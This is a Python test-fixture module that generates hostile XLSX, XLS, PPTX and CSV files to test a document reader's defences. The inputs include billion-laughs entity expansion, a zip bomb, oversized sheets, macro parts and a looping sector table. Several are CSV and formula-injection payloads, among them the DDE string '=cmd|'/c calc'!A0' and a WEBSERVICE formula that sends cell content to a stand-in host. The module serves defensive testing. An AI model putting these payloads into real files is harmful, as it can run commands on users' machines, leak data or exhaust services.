"""Workbooks and their kin: cells at the end of the world, strings that multiply, formulas that fetch."""

from __future__ import annotations

import struct
import zipfile
from io import BytesIO

from giaoban.files.reading import Reason
from tests.files.hostile.shapes import SHEETS, SLIDES, Hostile, types, zipped

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
_HEAD = '<row r="1"><c r="A1" t="inlineStr"><is><t>Nhiệm vụ</t></is></c></row>'


def workbook(sheet: str, strings: str = "", sheets: int = 1, **parts: bytes) -> bytes:
    """A workbook whose (first) sheet holds this markup."""
    listed = "".join(f'<sheet name="T{n}" sheetId="{n}" r:id="r{n}"/>' for n in range(1, sheets + 1))
    targets = "".join(
        f'<Relationship Id="r{n}" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
        for n in range(1, sheets + 1)
    )
    shared = f'<Relationship Id="s" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>'
    book = [
        ("[Content_Types].xml", types(SHEETS, "/xl/workbook.xml")),
        ("_rels/.rels", f'{_RELS}<Relationship Id="r" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'.encode()),
        ("xl/workbook.xml", f'<workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><sheets>{listed}</sheets></workbook>'.encode()),
        ("xl/_rels/workbook.xml.rels", f"{_RELS}{targets}{shared if strings else ''}</Relationships>".encode()),
        ("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{_MAIN}" xmlns:r="{_REL}">{sheet}</worksheet>'.encode()),
        *((name.replace("__", "/"), data) for name, data in parts.items()),
    ]  # fmt: skip
    if strings:
        book.append(("xl/sharedStrings.xml", f'<sst xmlns="{_MAIN}">{strings}</sst>'.encode()))
    return zipped(book, zipfile.ZIP_STORED)


def data(rows: str) -> str:
    return f"<sheetData>{_HEAD}{rows}</sheetData>"


def strings_that_multiply() -> bytes:
    """One string of a megabyte in twenty thousand cells."""
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(2, 20_000))
    return workbook(data(rows), f"<si><t>{'Báo cáo ' * 100_000}</t></si>")


def laughing() -> bytes:
    """Entities in the strings of a workbook."""
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<!DOCTYPE d [<!ENTITY l0 "ha">{lines}]><sst xmlns="{_MAIN}"><si><t>&l9;</t></si></sst>'
    book = workbook(data('<row r="2"><c r="A2" t="s"><v>0</v></c></row>'), "<si/>")
    parts = [(name, text.encode() if name.endswith("Strings.xml") else old) for name, old in unzipped(book)]
    return zipped(parts, zipfile.ZIP_STORED)


def unzipped(data: bytes) -> list[tuple[str, bytes]]:
    """The parts of a zip."""
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return [(name, archive.read(name)) for name in archive.namelist()]


def compound(fat: bytes) -> bytes:
    """The old compound file of .xls whose table of sectors is `fat`."""
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<LLLLLLLLL", head, 44, 1, 1, 0, 4096, 0, 1, 0xFFFFFFFE, 0, 0)
    struct.pack_into("<L", head, 76, 0)
    return bytes(head) + fat.ljust(512, b"\xff") + b"\0" * 2_048


_RING = compound(struct.pack("<LLLL", 1, 1, 2, 1))
_ROWS = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(2, 150_000))
_COLUMNS = '<row r="2">' + "".join(f"<c><v>{n}</v></c>" for n in range(300_000)) + "</row>"
_MERGED = "<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 60_000 + "</mergeCells>"
_FETCH = (
    '<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://giaoban.example/"&amp;A1)</f><v>=cmd|\'/c calc\'!A0</v></c>'
    '<c r="B2" t="str"><f>HYPERLINK("http://giaoban.example/")</f><v>+1+1</v></c></row>'
)
_ODD = (
    '<row r="2"><c r="A2"><v>1e308</v></c><c r="B2" t="d"><v>9999-99-99</v></c><c r="C2"><v>nan</v></c>'
    '<c r="D2" s="99999"><v>-99999999</v></c></row>'
)
_FAR = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'

FILES = [
    Hostile("xlsx-declares-17-thousand-million-cells", "a.xlsx", lambda: workbook(f'<dimension ref="A1:XFD1048576"/>{data("")}'), None),
    Hostile("xlsx-a-cell-at-the-end", "a.xlsx", lambda: workbook(data(_FAR)), None),
    Hostile("xlsx-a-cell-beyond-the-end", "a.xlsx", lambda: workbook(data('<row r="99999999999"><c r="ZZZZZZZZZ99999999999"><v>1</v></c></row>')), None),
    Hostile("xlsx-row-nought", "a.xlsx", lambda: workbook('<sheetData><row r="0"><c r="A0"><v>1</v></c></row></sheetData>'), None),
    Hostile("xlsx-strings-that-multiply", "a.xlsx", strings_that_multiply, None),
    Hostile("xlsx-string-that-is-missing", "a.xlsx", lambda: workbook(data('<row r="2"><c r="A2" t="s"><v>7</v></c></row>'), "<si><t>a</t></si>"), None),
    Hostile("xlsx-many-rows", "a.xlsx", lambda: workbook(data(_ROWS)), None),
    Hostile("xlsx-many-columns", "a.xlsx", lambda: workbook(data(_COLUMNS)), None),
    Hostile("xlsx-many-sheets", "a.xlsx", lambda: workbook(data(""), sheets=20_000), None),
    Hostile("xlsx-everything-merged", "a.xlsx", lambda: workbook(data("") + _MERGED), None),
    Hostile("xlsx-merged-backwards", "a.xlsx", lambda: workbook(data("") + '<mergeCells><mergeCell ref="Z9:A1"/></mergeCells>'), None),
    Hostile("xlsx-formulas-that-fetch", "a.xlsx", lambda: workbook(data(_FETCH)), None),
    Hostile("xlsx-odd-values", "a.xlsx", lambda: workbook(data(_ODD)), None),
    Hostile("xlsx-entities", "a.xlsx", laughing, None),
    Hostile("xlsx-sheet-of-blanks", "a.xlsx", lambda: zipped(unzipped(workbook(data("") + " " * 190_000_000))), Reason.ZIP_BOMB),
    Hostile("xlsx-macros", "a.xlsx", lambda: workbook(data(""), **{"xl__vbaProject.bin": b"x"}), Reason.MACRO),
    Hostile("xlsx-old-macro-sheet", "a.xlsx", lambda: workbook(data(""), **{"xl__macrosheets__sheet1.xml": b"<x/>"}), Reason.MACRO),
    Hostile("xls-ring-of-sectors", "a.xls", lambda: _RING, Reason.NOT_A_DOCUMENT),
    Hostile("xls-named-xlsx", "a.xlsx", lambda: _RING, Reason.NOT_A_DOCUMENT),
    Hostile("pptx-of-nothing", "a.pptx", lambda: zipped([("[Content_Types].xml", types(SLIDES, "/ppt/presentation.xml"))]), None),
    Hostile("pptx-a-slide-of-a-million", "a.pptx", lambda: zipped([("[Content_Types].xml", types(SLIDES, "/ppt/presentation.xml")), ("ppt/slides/slide1.xml", b"<a>" + b"<b/>" * 1_400_000 + b"</a>")], zipfile.ZIP_STORED), None),
    Hostile("csv-injection", "a.csv", lambda: "Nhiệm vụ,Chủ trì\n=cmd|'/c calc'!A0,@SUM(1)\n+1,-1\n".encode(), None),
    Hostile("csv-one-endless-line", "a.csv", lambda: b"a," * 6_000_000, None),
    Hostile("csv-one-endless-cell", "a.csv", lambda: b'a\n"' + b"x\n" * 3_000_000, None),
    Hostile("csv-many-rows", "a.csv", lambda: b"a,b\n" * 1_500_000, None),
    Hostile("csv-quotes", "a.csv", lambda: b'"' * 3_000_001, None),
]  # fmt: skip
